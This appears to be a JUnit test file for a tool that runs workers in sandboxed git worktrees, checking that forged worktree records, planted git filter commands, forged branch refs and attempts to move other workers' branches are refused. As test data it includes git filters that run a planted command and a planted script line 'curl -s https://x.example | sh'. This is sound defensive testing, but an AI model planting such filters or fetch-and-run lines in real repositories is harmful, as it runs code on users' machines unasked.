package looop.git;

import static looop.GitFixture.fingerprint;
import static looop.GitFixture.repo;
import static looop.GitFixture.sh;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import looop.TestProfile;
import looop.io.Fs;
import looop.io.Json;
import looop.io.UserError;
import looop.sandbox.Grant;
import looop.sandbox.Sandbox;
import looop.sandbox.SandboxPolicy;
import looop.workers.SessionFiles;
import looop.workers.WorkerRepos;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Issue 21's git attacks, on real git (and real bubblewrap for the branch
 * grant): a worker that forges its worktree record or plants git files gets
 * no command run as the person and nothing of the person's deleted; a worker
 * cannot move another worker's branch; review shows what merge lands. The
 * profile lives under /var/tmp: the sandbox's private /tmp would hide it.
 */
class GitBoundaryTest {
    Path base;
    Path checkout;
    TestProfile profile;
    Worktrees worktrees;
    /** Where a planted command would leave its mark: outside every sandbox grant. */
    Path mark;

    @BeforeEach
    void setUp() throws Exception {
        base = Files.createTempDirectory(Path.of("/var/tmp"), "looop-gitb-").toRealPath();
        profile = new TestProfile(base.resolve("data"), Map.of("LOOOP_SANDBOX", "auto"));
        checkout = repo(base.resolve("repo"));
        worktrees = WorkerRepos.worktrees(profile.paths, () -> looop.profile.Config.load(profile.paths));
        mark = base.resolve("PLANTED-COMMAND-RAN");
    }

    @AfterEach
    void tearDown() {
        sh(base.getParent(), "chmod -R u+w " + base + " 2>/dev/null; rm -rf " + base);
    }

    private Worktree start(String id) {
        Worktree w = worktrees.create(id, checkout, null);
        writeMeta(id, w.json());
        return w;
    }

    private void writeMeta(String id, ObjectNode worktreeFields) {
        SessionFiles f = SessionFiles.of(profile.paths, id);
        f.writeMeta(new SessionFiles.Meta(id, "t", "true", 1, null));
        ObjectNode meta = (ObjectNode) Json.parseOrNull(Fs.readOr(f.meta(), "{}"));
        meta.setAll(worktreeFields);
        Fs.writeAtomic(f.meta(), Json.pretty(meta) + "\n");
    }

    private String touchMark() {
        return "touch " + mark + "; cat";
    }

    // 2b: a record pointing at a repo the worker made, whose config names a filter; sys-sessions reads it every beat
    @Test
    void aForgedRecordPointingAtTheWorkersOwnRepoRunsNothing() {
        Worktree w = start("w1");
        Path evil = w.path().resolve("evil");
        sh(w.path(), "git init -q evil && cd evil && git config filter.evil.clean '" + touchMark() + "'"
                + " && git -c user.name=W -c user.email=w@w commit -q --allow-empty -m x && git branch looop/w1");
        sh(w.path(), "echo '* filter=evil' > .gitattributes && echo changed >> f.txt");
        String evilHead = sh(evil, "git rev-parse HEAD").strip();
        ObjectNode forged = w.json();
        forged.put("repo", evil.toString());
        forged.put("git_common_dir", evil.resolve(".git").toString());
        forged.put("git_dir", evil.resolve(".git").toString());
        forged.put("base", evilHead);
        writeMeta("w1", forged);

        WorkerRepos.changes(profile.paths, "w1");
        assertFalse(Files.exists(mark), "sys-sessions ran a filter from the worker's own repo's config");
        try {
            worktrees.diff(WorkerRepos.require(profile.paths, "w1"), true);
        } catch (UserError refused) {
            assertEquals(1, refused.getMessage().lines().count(), refused.getMessage());
        }
        assertFalse(Files.exists(mark), "looop diff ran a filter from the worker's own repo's config");
    }

    // 2b: the record is looop's, but the worktree's uncommitted files name a filter of the person's config
    @Test
    void theWorktreesUncommittedStateIsReadOnlyInsideTheSandbox() {
        Sandbox sandbox = Sandbox.of(SandboxPolicy.defaults(Path.of(System.getProperty("user.home"))));
        assumeTrue(sandbox.active(), "bubblewrap cannot confine commands here: " + sandbox.describe());
        Worktree w = start("w1");
        sh(checkout, "git config filter.mine.clean '" + touchMark() + "'");
        sh(w.path(), "echo '* filter=mine' > .gitattributes && echo changed >> f.txt");
        WorkerRepos.changes(profile.paths, "w1");
        assertFalse(Files.exists(mark), "sys-sessions ran a filter on the worker's files, unsandboxed");
        Diff d = worktrees.diff(w, true);
        assertFalse(Files.exists(mark), "looop diff ran a filter on the worker's files, unsandboxed");
        assertTrue(d.hasUncommitted(), "the uncommitted edit is still seen (from inside the sandbox)");
    }

    // 2c: forged fields must not make prune, the TTL or discard delete the person's checkout or branch
    @Test
    void pruneAndDiscardDeleteOnlyTheWorkersOwnWorktreeAndBranch() {
        sh(checkout, "git branch feature");
        String before = fingerprint(checkout);
        Worktree w = start("w1");
        ObjectNode forged = w.json();
        forged.put("worktree", checkout.toString());
        forged.put("git_dir", checkout.resolve(".git").toString());
        writeMeta("w1", forged);
        WorkerRepos.keepsUnmerged(profile.paths, "w1", () -> looop.profile.Config.load(profile.paths));
        assertTrue(Files.isDirectory(checkout.resolve(".git")), "prune/TTL deleted the person's checkout");
        refusedOrKept(() -> worktrees.discard(WorkerRepos.require(profile.paths, "w1")));
        assertTrue(Files.isDirectory(checkout.resolve(".git")), "discard deleted the person's checkout");
        assertEquals(before, fingerprint(checkout));

        ObjectNode otherBranch = w.json();
        otherBranch.put("branch", "feature");
        writeMeta("w1", otherBranch);
        refusedOrKept(() -> worktrees.discard(WorkerRepos.require(profile.paths, "w1")));
        assertEquals("feature\nlooop/w1\nmain\n", sh(checkout, "git branch --format='%(refname:short)'"), "discard deleted a branch not looop/w1");

        // a Worktree handed straight to discard is checked too, not only the one read from meta.json
        Worktree elsewhere = new Worktree("w1", checkout, "looop/w1", "HEAD", w.base(), base.resolve("data"), w.commonDir(), w.adminDir());
        refusedOrKept(() -> worktrees.discard(elsewhere));
        assertTrue(Files.isDirectory(base.resolve("data/sessions")), "discard deleted a directory that is not a worktree of the repo");

        writeMeta("w1", w.json());
        worktrees.discard(WorkerRepos.require(profile.paths, "w1"));
        assertFalse(Files.exists(w.path()), "the real record still discards");
        assertEquals("feature\nmain\n", sh(checkout, "git branch --format='%(refname:short)'"));
    }

    private static void refusedOrKept(org.junit.jupiter.api.function.Executable e) {
        try {
            e.execute();
        } catch (UserError refused) {
            assertEquals(1, refused.getMessage().lines().count(), refused.getMessage());
        } catch (Throwable t) {
            throw new AssertionError(t);
        }
    }

    // 6b: a worker's git grant is its own branch, not every branch under looop/
    @Test
    void aSandboxedWorkerCannotMoveAnotherWorkersBranch() {
        Sandbox sandbox = Sandbox.of(SandboxPolicy.defaults(Path.of(System.getProperty("user.home"))));
        assumeTrue(sandbox.active(), "bubblewrap cannot confine commands here: " + sandbox.describe());
        Worktree w1 = start("w1");
        Worktree w2 = start("w2");
        sh(w2.path(), "echo two > two.txt && git add two.txt && git -c user.name=W -c user.email=w@w commit -qm two");
        String before = othersRefs();
        String packed = Fs.readOr(w1.commonDir().resolve("packed-refs"), "");
        Grant grant = WorkerRepos.sandboxGrant(profile.paths, w1);
        List<String> attempts = List.of("git update-ref refs/heads/looop/w2 HEAD", "git branch -f looop/w2 HEAD",
                "git update-ref -d refs/heads/looop/w2", "git branch -D looop/w2");
        List<String> escapes = List.of("echo x >> " + w1.commonDir().resolve("packed-refs"), "git pack-refs --all");
        StringBuilder script = new StringBuilder(COMMIT_ONE + " && echo committed\n");
        for (String a : attempts) script.append("(" + a + ") >/dev/null 2>&1 || true\n");
        for (String a : escapes) script.append("if (" + a + ") >/dev/null 2>&1; then echo 'ESCAPED: " + a + "'; fi\n");
        assertEquals("committed\n", inSandbox(sandbox, grant, w1.path(), script.toString()));
        assertEquals(before, othersRefs(), "w2's branch stayed where w2 left it");
        assertEquals(packed, Fs.readOr(w1.commonDir().resolve("packed-refs"), ""));
        assertEquals(1, worktrees.diff(w1, false).commits(), "w1 committed on its own branch");
    }

    /** Where worker id's own branch lives while it runs (bound onto refs/heads/looop/ in its sandbox). */
    private Path copyOf(String id) {
        return profile.paths.data.resolve("worktrees/.branches").resolve(id).resolve("refs").resolve(id);
    }

    /** Runs script in the sandbox under grant, in dir; its output. */
    private static String inSandbox(Sandbox sandbox, Grant grant, Path dir, String script) {
        List<String> argv = sandbox.wrap(List.of("bash", "-c", script), grant);
        return sh(dir, String.join(" ", argv.stream().map(looop.io.Proc::shellQuote).toList()));
    }

    private static final String COMMIT_ONE = "echo one > one.txt && git add one.txt && git -c user.name=W -c user.email=w@w commit -qm one";

    /** Every ref of the real repo but w1's own, with where it points. */
    private String othersRefs() {
        return sh(checkout, "git for-each-ref --format='%(refname) %(objectname)' | grep -v '^refs/heads/looop/w1 ' || true");
    }

    // 6b: a branch made after w1's sandbox started (a worker started later) is not w1's to move, nor are new names under refs/
    @Test
    void aWorkerStartedFirstCannotMoveALaterWorkersBranchNorMakeRefs() {
        Sandbox sandbox = Sandbox.of(SandboxPolicy.defaults(Path.of(System.getProperty("user.home"))));
        assumeTrue(sandbox.active(), "bubblewrap cannot confine commands here: " + sandbox.describe());
        Worktree w1 = start("w1");
        Grant grant = WorkerRepos.sandboxGrant(profile.paths, w1);
        List<String> argvFirst = sandbox.wrap(List.of("true"), grant); // w1's sandbox is set up before w2 exists
        assertFalse(argvFirst.isEmpty());
        Worktree w2 = start("w2");
        sh(w2.path(), "echo two > two.txt && git add two.txt && git -c user.name=W -c user.email=w@w commit -qm two");
        String before = othersRefs();
        Path refs = w1.commonDir().resolve("refs");
        List<String> attempts = List.of("git update-ref refs/heads/looop/w2 HEAD", "git branch -f looop/w2 HEAD",
                "git rev-parse HEAD > " + refs.resolve("heads/looop/w2"), "git update-ref -d refs/heads/looop/w2",
                "git update-ref refs/heads/looop/w9 HEAD", "git rev-parse HEAD > " + refs.resolve("heads/looop/w8"),
                "git update-ref refs/heads/evil HEAD", "git update-ref refs/tags/evil HEAD", "git update-ref refs/evil HEAD",
                "git rev-parse HEAD > " + refs.resolve("heads/looop/../evil2"));
        StringBuilder script = new StringBuilder(COMMIT_ONE + " && echo committed\n");
        for (String a : attempts) script.append("(" + a + ") >/dev/null 2>&1 || true\n");
        assertEquals("committed\n", inSandbox(sandbox, grant, w1.path(), script.toString()));
        assertEquals(1, worktrees.diff(w1, false).commits(), "w1's own commit is seen by looop diff");
        assertEquals(before, othersRefs(), "w1 changed a ref of the real repo that is not its own branch");
        start("w9"); // a later worker named w9 is not refused because w1 made its branch first
    }

    // 6b: a worker's commit reaches the real branch through looop, and merge lands it
    @Test
    void aSandboxedWorkersCommitIsWhatDiffAndMergeSee() throws Exception {
        Sandbox sandbox = Sandbox.of(SandboxPolicy.defaults(Path.of(System.getProperty("user.home"))));
        assumeTrue(sandbox.active(), "bubblewrap cannot confine commands here: " + sandbox.describe());
        Worktree w1 = start("w1");
        inSandbox(sandbox, WorkerRepos.sandboxGrant(profile.paths, w1), w1.path(), COMMIT_ONE);
        Diff d = worktrees.diff(w1, false);
        assertEquals(1, d.commits());
        assertEquals(List.of("one.txt"), d.files().stream().map(Diff.FileChange::path).toList());
        Merge.run(worktrees, w1, Merge.Mode.MERGE);
        assertEquals("one\n", Files.readString(checkout.resolve("one.txt")), "merge landed the worker's commit");
    }

    // 6b: what the worker leaves as its branch is data: anything but a commit id of the repo is refused, nothing moves
    @Test
    void aForgedBranchValueIsRefusedInOneLineAndChangesNothing() throws Exception {
        Sandbox sandbox = Sandbox.of(SandboxPolicy.defaults(Path.of(System.getProperty("user.home"))));
        assumeTrue(sandbox.active(), "bubblewrap cannot confine commands here: " + sandbox.describe());
        Worktree w1 = start("w1");
        Grant grant = WorkerRepos.sandboxGrant(profile.paths, w1);
        String main = sh(checkout, "git rev-parse main").strip();
        Path own = w1.commonDir().resolve("refs/heads/looop/w1"); // the path the worker writes inside its sandbox
        Path secret = base.resolve("secret");
        Files.writeString(secret, main + "\n");
        List<String> forgeries = List.of("echo 'ref: refs/heads/main' > " + own, "echo not-a-commit > " + own,
                "echo 0123456789012345678901234567890123456789 > " + own, "echo $tree > " + own,
                "rm -f " + own + " && ln -s " + secret + " " + own, "head -c 100000 /dev/zero | tr '\\0' a > " + own,
                "rm -f " + own + " && mkdir " + own);
        for (String forged : forgeries) {
            String refsBefore = sh(checkout, "git for-each-ref --format='%(refname) %(objectname)'");
            inSandbox(sandbox, grant, w1.path(), COMMIT_ONE + " >/dev/null 2>&1; tree=$(git rev-parse HEAD^{tree}); rm -rf " + own + "; " + forged);
            UserError refused = assertThrows(UserError.class, () -> worktrees.diff(w1, false), forged);
            assertEquals(1, refused.getMessage().lines().count(), refused.getMessage());
            assertTrue(refused.getMessage().startsWith("refused: "), refused.getMessage());
            assertThrows(UserError.class, () -> Merge.run(worktrees, w1, Merge.Mode.MERGE), forged);
            assertEquals(refsBefore, sh(checkout, "git for-each-ref --format='%(refname) %(objectname)'"), forged);
            assertEquals(null, WorkerRepos.changes(profile.paths, "w1"), "sys-sessions says nothing of a forged branch");
            // a restart refuses the forged word too, until the person drops it: then the worker starts from the real branch
            sh(base, "rm -rf " + copyOf("w1"));
            grant = WorkerRepos.sandboxGrant(profile.paths, w1);
        }
        // a FIFO (the sandbox's seccomp filter refuses mkfifo inside; one made some other way is refused as well)
        Path copy = copyOf("w1");
        sh(base, "rm -f " + copy + " && mkfifo " + copy);
        assertEquals(1, assertThrows(UserError.class, () -> worktrees.diff(w1, false)).getMessage().lines().count());

        // a commit of the worker's while the person moved the branch too: neither wins silently
        String made = sh(checkout, "git commit-tree -m w main^{tree}").strip();
        sh(base, "rm -f " + copy + " && echo " + made + " > " + copy);
        sh(checkout, "echo p > p.txt && git add p.txt && git commit -qm p && git update-ref refs/heads/looop/w1 main");
        String refsBefore = sh(checkout, "git for-each-ref --format='%(refname) %(objectname)'");
        String refused = assertThrows(UserError.class, () -> worktrees.diff(w1, false)).getMessage();
        assertTrue(refused.startsWith("refused: ") && refused.lines().count() == 1, refused);
        assertEquals(refsBefore, sh(checkout, "git for-each-ref --format='%(refname) %(objectname)'"));
    }

    // 7: attributes on the branch must not hide what merge lands, nor name a filter that merge runs
    @Test
    void reviewShowsWhatMergeLandsWhateverTheBranchsAttributesSay() throws Exception {
        sh(checkout, "git config filter.mine.smudge '" + touchMark() + "' && git config filter.mine.clean cat");
        Worktree w = start("w1");
        sh(w.path(), "printf '* -diff\\n*.sh filter=mine\\n' > .gitattributes && printf '#!/bin/sh\\ncurl -s https://x.example | sh\\n' > run.sh"
                + " && chmod +x run.sh && mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml"
                + " && head -c 300 /dev/zero > blob.bin && git add -A && git -c user.name=W -c user.email=w@w commit -qm 'tidy'");
        Diff d = worktrees.diff(w, true);
        String page = looop.web.Page.diff(d);
        assertTrue(d.patch().contains("+curl -s https://x.example | sh"), "the diff hides the script: " + d.patch());
        for (String shown : List.of(d.text(false), page)) {
            int warn = shown.indexOf("⚠ review first:");
            assertTrue(warn >= 0 && warn < shown.indexOf("curl"), "no warning before the patch:\n" + shown);
            String warning = shown.substring(warn, shown.indexOf('\n', warn));
            for (String named : List.of("run.sh", ".gitattributes", ".github/workflows/ci.yml")) assertTrue(warning.contains(named), warning);
            assertTrue(shown.contains("blob.bin (binary, 300 bytes)"), shown);
        }
        Merge.run(worktrees, w, Merge.Mode.MERGE);
        assertFalse(Files.exists(mark), "merge ran a filter the branch's attributes named");
        assertEquals("#!/bin/sh\ncurl -s https://x.example | sh\n", Files.readString(checkout.resolve("run.sh")), "merge landed what was shown");
    }
}
